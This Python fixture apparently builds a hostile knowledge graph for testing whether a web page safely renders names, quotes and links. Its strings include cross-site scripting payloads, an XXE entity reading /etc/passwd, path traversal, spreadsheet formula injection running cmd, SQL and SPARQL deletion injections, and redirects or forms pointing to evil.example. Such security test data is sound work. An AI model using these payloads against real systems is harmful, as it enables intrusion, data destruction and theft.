"""A graph in which every place that a page shows holds text that tries to be something else.

Each text of `TEXTS` has a paper, a person, a topic, a document … of that name, a quote, links and identifiers. What it
would run sets `ran` or opens a dialog, so that a test can see whether it did.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pyoxigraph as ox

from kg.namespaces import BASE, ONTOLOGY, RDF, RDFS, SKOS

TEXTS = {
    "script": "<script>globalThis.ran=1</script>",
    "script in capitals": "</ScRiPt ><SCRIPT>ran=1;alert(1)</SCRIPT>",
    "end of a script": "</script><script>ran=1</script>",
    "end of a style": "</style><style>*{display:none}</style>",
    "end of a text field": "</textarea><img src=x onerror=ran=1>",
    "end of a title": "</title><script>ran=1</script>",
    "picture": "<img src=x onerror=ran=1>",
    "drawing": "<svg/onload=ran=1><animate onbegin=ran=1 attributeName=x dur=1s>",
    "frame": "<iframe srcdoc='<script>parent.ran=1</script>' src=https://evil.example></iframe>",
    "base": "<base href=//evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "form": "<form action=https://evil.example><input name=title><button formaction=javascript:ran=1>",
    "named element": "<a id=map name=kg></a><form id=panel>",
    "double quotes": '" onmouseover="ran=1" autofocus onfocus="ran=1',
    "single quotes": "' onclick='ran=1' style='position:fixed;inset:0",
    "backticks": "`${(ran=1)}`",
    "template literal": "${globalThis.ran=1} #{ran=1} <%= ran=1 %>",
    "template of this page": "{{ csp }}{{ title }}{{ scripts }}",
    "angular": "{{constructor.constructor('ran=1')()}}",
    "comment": "<!--<script>ran=1//--> --!> <!-",
    "cdata": "<![CDATA[ <script>ran=1</script> ]]> ]]>",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "processing instruction": "<?xml-stylesheet href='javascript:ran=1'?>",
    "entities": "&lt;script&gt;ran=1&lt;/script&gt; &amp;amp; &#60;b&#62; &nosuch; &#x0;",
    "javascript address": "javascript:ran=1",
    "javascript in capitals": "JaVaScRiPt:alert(1)//https://example.org",
    "javascript with a tab": "java\tscript:ran=1",
    "javascript after a space": " \u0001javascript:ran=1",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript address": 'vbscript:msgbox("1")',
    "address that breaks out": "https://example.org/\" onclick=ran=1 x='",
    "address of no host": "http://[::1",
    "address without a scheme": "//evil.example/x",
    "path traversal": "../../../../etc/passwd%00.md",
    "windows path": "C:\\Windows\\..\\\\evil\\share",
    "percent encodings": "%3Cscript%3Eran=1%3C/script%3E %00 %E0%A4%A %",
    "right to left": "\u202egpj.exe\u202c and \u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627",
    "isolates without an end": "\u2066\u2067\u2068 turned \u202d\u202e around",
    "marks of direction": "\u200f\u200eboth\u061c ways",
    "zero width": "zero\u200bwidth\u200d\u2060\ufeff joined\u00ad",
    "nothing to see": "\u200b\u2060",
    "byte order mark": "\ufeffmark",
    "controls": "\x00nul\x07bell\x08back\x0bdown\x0cpage\x1funit\x7fdelete\x85next",
    "terminal escapes": "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "no characters": "\ufffe\uffff and \ufdd0",
    "carriage return": "first\r\nsecond\rthird",
    "newline and tab": "line\nbreak\ttab\n\n\nlast",
    "separators of lines": "a\u2028b\u2029c\u0085d",
    "spaces": "  spaced\u00a0\u3000\u2003out  ",
    "combining marks": "Z\u0351\u036b\u0343\u036a\u0302" + "a" + "\u0300\u0316\u0334" * 80,
    "letters of two forms": "e\u0301 \u00e9 \ufb01 \u2126 \u1e9e \u0130 \u0131",
    "astral": "\U0001f642\U0001d518nicode \U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0001\U0010fffd",
    "equals": '=HYPERLINK("https://evil.example","click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab before equals": "\t=1+1",
    "return before equals": "\r=1+1",
    "wide equals": "\uff1d1\uff0b1",
    "commas and quotes": 'a,"b"",c;d\te\n"',
    "apostrophe": "'=1+1",
    "long word": "w" * 3_000,
    "long": "a long text of many words " * 4_000,
    "prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "null": "null",
    "undefined": "undefined",
    "zero": "0",
    "braces": "{}[]",
    "backslashes": "\\\\' \\\" \\u003cscript\\u003e \\",
    "sql": "'; DROP TABLE papers; --",
    "sparql": '" } ; DELETE WHERE { ?s ?p ?o } #',
    "separators of this page": "a \u0001 b#thing=x&view=table",
    "lone hash": "#",
}  # fmt: skip
"""Kind → text."""

LINKS = (
    "javascript:ran=1", "JAVASCRIPT:alert(1)", "data:text/html,ran=1", "vbscript:msgbox(1)", "file:///etc/passwd",
    "blob:https://evil.example/1", "about:blank", "view-source:https://evil.example", "ftp://evil.example/x",
    "mailto:a@evil.example?body=ran", "urn:isbn:0", "https://example.org/%22%3E%3Cscript%3Eran=1%3C/script%3E",
    "https://example.org/?q='onclick=ran=1&x=javascript:ran=1", "http://user:pass@evil.example:1/",
    "HTTPS://EXAMPLE.ORG/A", "https://xn--e1afmkfd.example/\u202egpj.exe",
)  # fmt: skip
"""Addresses that a graph may hold; those of the web are links, the others text."""

KINDS = {
    "paper": "Paper", "person": "Person", "topic": "Topic", "task": "Task", "method": "Method", "dataset": "Dataset",
    "software": "Software", "organization": "Organization", "venue": "Venue", "edition": "VenueEdition",
    "award": "Award", "document": "Document", "presentation": "PresentationType",
}  # fmt: skip
_OF_PAPER = {
    "creator": "person", "topic": "topic", "addresses": "task", "introduces": "method", "evaluatedOn": "dataset",
    "uses": "software", "affiliation": "organization", "presentedAt": "edition", "receivedAward": "award",
    "presentationType": "presentation",
}  # fmt: skip
BEFORE, AFTER = "The words before: ", " — and those after it, which are there to be read."


def thing(kind: str, at: int) -> ox.NamedNode:
    """The thing of a kind that has the name of the text with a number."""
    return ox.NamedNode(f"{BASE}{kind}/hostile-{at}")


def write(path: Path) -> None:
    """Write the graph as N-Triples."""
    store = ox.Store()
    store.extend(ox.Quad(*triple) for at in range(len(TEXTS)) for triple in _family(at))
    store.dump(str(path), ox.RdfFormat.N_TRIPLES, from_graph=ox.DefaultGraph())


_Triple = tuple[ox.NamedNode, ox.NamedNode, ox.NamedNode | ox.Literal]


def _family(at: int) -> Iterator[_Triple]:
    """All things that have one of the texts as their name, and what joins them."""
    texts = list(TEXTS.values())
    text, other = ox.Literal(texts[at]), ox.Literal(texts[at - 1])
    paper, edition, document = thing("paper", at), thing("edition", at), thing("document", at)
    for kind, name in KINDS.items():
        yield thing(kind, at), ox.NamedNode(RDF + "type"), ox.NamedNode(ONTOLOGY + name)
        yield thing(kind, at), ox.NamedNode(RDFS + "label"), text
    for name, kind in _OF_PAPER.items():
        yield paper, _term(name), thing(kind, at)
    yield edition, _term("series"), thing("venue", at)
    yield edition, _term("year"), ox.Literal(2000 + at)
    yield paper, _term("year"), ox.Literal(2000 + at)
    yield paper, _term("mentions"), thing("method", (at or len(texts)) - 1)
    yield document, _term("fileName"), other
    yield thing("topic", at), ox.NamedNode(SKOS + "altLabel"), other
    yield thing("topic", at), ox.NamedNode(SKOS + "definition"), text
    yield paper, _term("alternativeTitle"), other
    for name in ("title", "arxivId", "doi", "identifier", "code", "paperPage"):
        yield paper, _term(name), text
    yield paper, _term("code"), ox.NamedNode(LINKS[at % len(LINKS)])
    yield from _evidence(at, text)


def _evidence(at: int, text: ox.Literal) -> Iterator[_Triple]:
    """A passage that is the text, one that holds it, and what rests on either."""
    paper, document = thing("paper", at), thing("document", at)
    words, around = thing("passage", 2 * at), thing("passage", 2 * at + 1)
    whole = ox.Literal(BEFORE + text.value + AFTER)
    start = 7
    for passage, quote, first in ((words, text, start + len(BEFORE)), (around, whole, start)):
        yield passage, ox.NamedNode(RDF + "type"), _term("Passage")
        yield passage, _term("inDocument"), document
        yield passage, _term("quote"), quote
        for name, value in (("start", first), ("end", first + len(quote.value)), ("line", at + 1), ("column", 1)):
            yield passage, _term(name), ox.Literal(value)
    for number, (name, kind) in enumerate(_OF_PAPER.items()):
        statement = thing("statement", 100 * at + number)
        yield statement, ox.NamedNode(RDF + "type"), _term("Statement")
        yield statement, ox.NamedNode(RDF + "subject"), paper
        yield statement, ox.NamedNode(RDF + "predicate"), _term(name)
        yield statement, ox.NamedNode(RDF + "object"), thing(kind, at)
        yield statement, _term("supportedBy"), words if number % 2 else around
    reference = thing("reference", at)
    yield reference, ox.NamedNode(RDF + "type"), _term("Reference")
    yield reference, _term("refersTo"), paper
    yield reference, _term("inDocument"), document
    yield reference, _term("passage"), around
    yield paper, _term("listedIn"), document


def _term(name: str) -> ox.NamedNode:
    return ox.NamedNode(ONTOLOGY + name)
